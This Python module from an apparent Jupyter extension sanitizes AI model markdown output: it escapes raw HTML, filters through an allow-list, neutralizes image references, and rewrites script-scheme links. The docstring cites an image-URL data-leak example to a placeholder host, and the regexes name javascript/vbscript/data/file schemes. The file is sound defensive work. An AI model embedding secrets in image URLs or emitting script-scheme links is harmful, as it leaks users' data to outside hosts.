"""Model markdown → safe HTML, and model markdown → markdown with raw HTML made inert.

Model text is never trusted as HTML: a ``<script>`` in an answer must stay visible text in the
live widget, in the saved notebook and on GitHub. And no output may load anything by itself:
an image in model markdown (``![c](http://host/leak?k=...)``) would be fetched as soon as the
output is shown, live or when a saved (even untrusted) notebook is opened, sending whatever the
model put in the URL. Images in our outputs come only from the image outputs we build from
bytes (tool results, attachments); an image *reference* in model text is shown as inert text.
Layers:

1. mistune 3 with ``escape=True`` turns raw HTML in the markdown into text, its own
   ``safe_url`` replaces ``javascript:``-style links with ``#harmful-link``, and our renderer
   writes every image (inline, reference, in tables, links, quotes...) as visible text;
2. :func:`nh3.clean` then applies a conservative allow-list (no img/svg/style/iframe/form or any
   other tag that loads, no ``src``/``srcset`` or ``on*`` attributes, ``style`` only on the
   ``pre``/``code``/``span`` of highlighted code and only with colour and font properties, only
   http/https/mailto URLs), in case mistune ever lets something through;
3. for the ``text/markdown`` bundle (rendered by JupyterLab's marked, GitHub, nbconvert),
   :func:`escape_markdown_html` escapes raw HTML and the ``!`` of every ``![``, so an image
   becomes at most a link someone has to click.

Pure module: no IPython or ipywidgets imports.
"""

from __future__ import annotations

import functools
import html
import re

import mistune
import nh3

from byre_jupyter.ui.highlight import CODE_STYLE_PROPERTIES, highlight_code

__all__ = [
    "ALLOWED_TAGS",
    "MATH_IGNORE",
    "MATH_PROCESS",
    "clean_html",
    "escape_markdown_html",
    "escape_text",
    "render_markdown",
    "split_blocks",
    "tolerant_markdown",
]

#: Tags model markdown may produce (what mistune emits for CommonMark, tables, strikethrough).
ALLOWED_TAGS: frozenset[str] = frozenset(
    {
        "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6",
        "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table",
        "tbody", "td", "th", "thead", "tr", "ul",
    }
)  # fmt: skip

_ATTRIBUTES: dict[str, set[str]] = {
    "a": {"href", "title"},
    "td": {"align"},
    "th": {"align"},
    "ol": {"start"},
    # Only the code blocks we highlight carry styles (model HTML is escaped before this),
    # and only colour and font properties survive (CODE_STYLE_PROPERTIES).
    "pre": {"style"},
    "code": {"style"},
    "span": {"style"},
}
_URL_SCHEMES = {"http", "https", "mailto"}

#: Classes for MathJax (JupyterLab's MathJax 3, nbconvert's MathJax 2): our own HTML is
#: skipped, so a ``$`` we write (a cost, a user's ``$HOME``) is never read as maths; model
#: markdown is typeset inside it.
MATH_IGNORE = "mathjax_ignore tex2jax_ignore"
MATH_PROCESS = "mathjax_process tex2jax_process"

#: Longest URL shown in the text that replaces an image.
_SHOWN_URL_CHARS = 160


class _InertImages(mistune.HTMLRenderer):
    """mistune's HTML renderer, except that an image is text saying what was not loaded."""

    def image(self, text: str, url: str, title: str | None = None) -> str:
        alt = mistune.util.striptags(text).strip()  # children are already escaped HTML
        shown = url if len(url) <= _SHOWN_URL_CHARS else url[:_SHOWN_URL_CHARS] + "…"
        label = f"{alt} — " if alt else ""
        return f"[image not loaded: {label}{escape_text(shown)}]"

    def block_code(self, code: str, info: str | None = None) -> str:
        return highlight_code(code, info)

    # Math: ``$...$`` and ``$$...$$`` stay TeX between dollar signs, untouched by
    # emphasis or escapes, each in an element of its own, for the notebook's MathJax to
    # typeset in the final output (MathJax finds its delimiters within one element's text).
    # Every other ``$`` is alone in a ``<span>`` of its own, so it can never pair up with
    # another one: "$5 and $6" stays money, as mistune decided.
    def inline_math(self, text: str) -> str:
        return f"<span>${escape_text(text)}$</span>"

    def block_math(self, text: str) -> str:
        return f"<p>$${escape_text(text)}$$</p>\n"

    def text(self, text: str) -> str:
        return escape_text(text).replace("$", "<span>$</span>")


_markdown = mistune.create_markdown(
    renderer=_InertImages(escape=True),
    hard_wrap=False,
    plugins=["table", "strikethrough", "url", "math"],
)


def escape_text(text: str) -> str:
    """Escape a plain string for HTML text or attribute context."""
    return html.escape(text, quote=True)


def clean_html(fragment: str) -> str:
    """Sanitize an HTML fragment with the conservative model-content allow-list."""
    return nh3.clean(
        fragment,
        tags=set(ALLOWED_TAGS),
        attributes=_ATTRIBUTES,
        url_schemes=_URL_SCHEMES,
        filter_style_properties=set(CODE_STYLE_PROPERTIES),
        link_rel="noopener noreferrer",
        strip_comments=True,
    )


def render_markdown(text: str, *, growing: bool = False) -> str:
    """Render untrusted markdown to sanitized HTML.

    Raw HTML in ``text`` is escaped (it shows as text), code blocks become ``<pre><code>``,
    GFM tables are kept, and the result passes :func:`nh3.clean`.

    The text is rendered block by block (:func:`split_blocks`), each finished block once: a
    streamed answer is re-rendered many times a second while it grows, and all but its last
    block are what was rendered the time before (kernel CPU, bench/RESULTS.md 3). ``growing``
    text is still being written: its last block goes through :func:`tolerant_markdown`.
    """
    if _WHOLE_ONLY.search(text):  # blocks tied across blank lines: render all at once
        return _render(tolerant_markdown(text) if growing else text)
    *done, last = split_blocks(text)
    rendered = "".join(map(_render_block, done))
    return rendered + (_render(tolerant_markdown(last)) if growing else _render_block(last))


def _render(text: str) -> str:
    rendered = _markdown(text)
    assert isinstance(rendered, str)  # create_markdown() with the default renderer
    return clean_html(rendered)


#: Finished blocks, by their text: the live view renders each of them again at every flush
#: until it freezes them, and the final record renders them once more. Bounded in entries and
#: in their size (highlighted code is several times its text): at worst some 12 MiB of a
#: kernel's memory, for paragraphs of prose well under 1 MiB.
_render_cached = functools.lru_cache(maxsize=512)(_render)
_CACHED_BLOCK_CHARS = 4096


def _render_block(text: str) -> str:
    return _render_cached(text) if len(text) <= _CACHED_BLOCK_CHARS else _render(text)


# Where a text may be cut so that its pieces, each rendered alone, give exactly what the whole
# gives: after a blank line, before a line that starts a block and cannot continue or belong to
# an earlier one (not indented, not a list item, quote, thematic break or HTML block), and
# outside code fences and $$ maths blocks (which blank lines do not end).
_BLOCK_START = re.compile(r"\n\n(?=[^\s>*+\-\d<])")
_VERBATIM_EDGE = re.compile(r"^ {0,3}(?:(`{3,}|~{3,})(.*)|\$\$[ \t]*)$", re.MULTILINE)
# What ties blocks together beyond split_blocks' cuts: a link reference definition ("[x]: url")
# serves links in any other block, and an HTML block that blank lines do not end (CommonMark
# types 1-5: <pre>, <script>, <style>, <textarea>, comments, <?...?>, <!X...>, CDATA).
_WHOLE_ONLY = re.compile(
    r"^ {0,3}(?:\[[^\]]+\]:|<(?:pre|script|style|textarea)(?:[\s>]|$)|<[!?])",
    re.MULTILINE | re.IGNORECASE,
)


def split_blocks(text: str) -> list[str]:
    """``text`` cut into pieces that render alone as they do together (see ``_BLOCK_START``;
    unless ``_WHOLE_ONLY`` finds something in it); the pieces join back to ``text``, and the
    last is the one still growing when ``text`` is streamed."""
    spans = _verbatim_spans(text)
    pieces: list[str] = []
    start = span = 0
    for match in _BLOCK_START.finditer(text):
        cut = match.end()
        while span < len(spans) and spans[span][1] < cut:
            span += 1
        if span < len(spans) and spans[span][0] < cut:
            continue  # inside a fence: a blank line does not end it
        pieces.append(text[start:cut])
        start = cut
    pieces.append(text[start:])
    return pieces


def _verbatim_spans(text: str) -> list[tuple[int, int]]:
    """Where code fences and $$ blocks are, as CommonMark (and mistune) open and close them:
    a backtick fence's info string has no backtick; a fence closes on a line of its own
    character, at least as long, with nothing after it; one left open runs to the end."""
    spans: list[tuple[int, int]] = []
    opener: str | None = None
    opened_at = 0
    for edge in _VERBATIM_EDGE.finditer(text):
        fence, info = edge.group(1), edge.group(2)
        if opener is None:
            if fence is not None and fence[0] == "`" and "`" in info:
                continue  # inline code, not a fence
            opener, opened_at = fence or "$$", edge.start()
        elif (
            fence is None
            if opener == "$$"
            else fence is not None
            and fence[0] == opener[0]
            and len(fence) >= len(opener)
            and not info.strip()
        ):
            spans.append((opened_at, edge.end()))
            opener = None
    if opener is not None:
        spans.append((opened_at, len(text)))
    return spans


# What stays verbatim must be something every CommonMark renderer also treats as code, or
# raw HTML could slip through. So we only trust (conservatively; anything else is escaped, which
# at worst shows a literal "&lt;" inside code):
# * fences at column 0 (an indented fence may belong to a list item that a later unindented
#   line closes), without a backtick in a backtick fence's info string, closed by the first line
#   that could close them;
# * code spans within one line, not opened by an escaped backtick, on lines without "|" (GFM
#   splits table cells before it looks for code spans).
_FENCE_OPEN = re.compile(r"^(`{3,}(?=[^`]*$)|~{3,})")
_FENCE_CLOSE = re.compile(r"^ {0,3}(`{3,}|~{3,})\s*$")
_CODE_SPAN = re.compile(r"(?<![\\`])(`+)([^`].*?)(?<!`)\1(?!`)")
_QUOTE = re.compile(r"^( {0,3}(?:> ?)+)")
_AUTOLINK = re.compile(r"<(https?://[^\s<>]+)>")
# Links whose destination is a script-capable scheme: ``[x](javascript:...)`` and
# ``[x]: javascript:...`` point at ``#harmful-link`` instead (as mistune does for HTML).
_SCHEMES = r"(?:javascript|vbscript|data|file)\s*:"
# The destination may hold one level of parentheses: ``javascript:alert(1)``.
_BAD_LINK = re.compile(
    r"\]\(\s*<?\s*" + _SCHEMES + r"[^()\s]*(?:\([^()\s]*\)[^()\s]*)*", re.IGNORECASE
)
_BAD_REFERENCE = re.compile(r"^(\s*\[[^\]]+\]:\s*)<?\s*" + _SCHEMES + r"\S*", re.IGNORECASE)


# The "!" of an image opener, unless a backslash already escapes it (an even run of
# backslashes before it escapes only themselves).
_IMAGE_OPENER = re.compile(r"(?<!\\)((?:\\\\)*)!\[")


# Memoized: a draft re-escapes its whole text a few times a second while it streams, and all but
# its last line are the lines it escaped the time before (kernel CPU, bench/RESULTS.md 3).
@functools.lru_cache(maxsize=1024)
def _escape_line(line: str) -> str:
    if "|" in line:
        return _no_images(_escape_plain(line))
    out: list[str] = []
    pos = 0
    for m in _CODE_SPAN.finditer(line):
        out.append(_escape_plain(line[pos : m.start()]))
        out.append(m.group(0))
        pos = m.end()
    out.append(_escape_plain(line[pos:]))
    # Code spans too: what looks like a span on this line may not be one to a CommonMark
    # parser (a span opened on the line before), and a stray backslash in code is harmless.
    return _no_images("".join(out))


def _no_images(text: str) -> str:
    """``![`` → ``\\![``: an escaped ``!`` and a plain link, never an image."""
    return _IMAGE_OPENER.sub(lambda m: m.group(1) + "\\![", text)


def _escape_plain(text: str) -> str:
    text = _AUTOLINK.sub(r"\1", text)
    text = _BAD_LINK.sub("](#harmful-link", text)
    text = _BAD_REFERENCE.sub(r"\1#harmful-link", text)
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def escape_markdown_html(text: str) -> str:
    """Make raw HTML in untrusted markdown inert while keeping the markdown itself.

    Outside code fences and code spans, ``&``, ``<`` and ``>`` become entities, so
    ``<script>`` renders as text; block-quote markers at line start are kept. Outside code
    fences, ``![`` becomes ``\\![`` (an image becomes a link). A fence left open is closed,
    so the next block of the bundle starts outside code, as this function assumed.
    """
    out: list[str] = []
    fence: str | None = None
    for line in text.split("\n"):
        if fence is not None:
            out.append(line)
            close = _FENCE_CLOSE.match(line)
            if close and close.group(1)[0] == fence[0] and len(close.group(1)) >= len(fence):
                fence = None
            continue
        opened = _FENCE_OPEN.match(line)
        if opened:
            fence = opened.group(1)
            out.append(line)
            continue
        quote = _QUOTE.match(line)
        if quote:
            out.append(quote.group(1) + _escape_line(line[quote.end() :]))
        else:
            out.append(_escape_line(line))
    if fence is not None:
        out.append(fence)
    return "\n".join(out)


# --- half-written markdown (the live view while a block streams) ----------------------------

_OPEN_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_PARTIAL_FENCE = re.compile(r"^ {0,3}(`{1,2}|~{1,2})$")
_TABLE_LINE = re.compile(r"^ {0,3}\|")
_DELIMITER_CELL = re.compile(r"^\s*:?-+:?\s*$")


def _cells(line: str) -> list[str]:
    row = line.strip()
    row = row[1:] if row.startswith("|") else row
    row = row[:-1] if row.endswith("|") and not row.endswith("\\|") else row
    return re.split(r"(?<!\\)\|", row)


def _closed(line: str) -> bool:
    row = line.rstrip()
    return row.endswith("|") and not row.endswith("\\|") and len(row.strip()) > 1


def _tolerant_table(lines: list[str]) -> list[str]:
    """The table at the end of a streaming text, as far as it can show as a table (mistune
    wants every row between pipes and as wide as the header)."""
    if len(lines) < 2 or not _closed(lines[0]) or not _closed(lines[1]):
        return []  # the header or its delimiter row is still being written
    header, delimiter = _cells(lines[0]), _cells(lines[1])
    if len(delimiter) != len(header) or not all(_DELIMITER_CELL.match(c) for c in delimiter):
        return []
    if len(lines) == 2:
        return lines
    last = lines[-1]
    if not last.strip():
        return lines
    # The row being written: closed and padded to the header's width, so it stays a row.
    cells = _cells(last) if _closed(last) else _cells(last.rstrip() + " |")
    cells = (cells + [" "] * len(header))[: len(header)]
    return [*lines[:-1], "|" + "|".join(cells) + "|"]


def tolerant_markdown(text: str) -> str:
    """``text`` as it is still being written, made to render without raw fragments.

    A table whose header has no complete delimiter row yet is held back (it would show as
    ``| a | b |`` text), the row being written is padded so it stays in its table, and a
    fence opener of one or two backticks on the last line waits for its third. An
    unclosed code fence needs nothing: CommonMark runs it to the end. Only for the growing
    part of the live view; the final record renders the text as it is.
    """
    lines = text.split("\n")
    ending = [""] if len(lines) > 1 and lines[-1] == "" else []  # text ends with a newline
    if ending:
        lines.pop()
    fence: str | None = None
    table_start: int | None = None
    for n, line in enumerate(lines):
        if fence is not None:
            close = _FENCE_CLOSE.match(line)
            if close and close.group(1)[0] == fence[0] and len(close.group(1)) >= len(fence):
                fence = None
            continue
        opened = _OPEN_FENCE.match(line)
        if opened:
            fence = opened.group(1)
            table_start = None
            continue
        if _TABLE_LINE.match(line):
            if table_start is None:
                table_start = n
        else:
            table_start = None
    if fence is None and table_start is not None:
        lines = lines[:table_start] + _tolerant_table(lines[table_start:])
    elif fence is None and lines and _PARTIAL_FENCE.match(lines[-1]):
        lines = lines[:-1]
    return "\n".join(lines + ending)
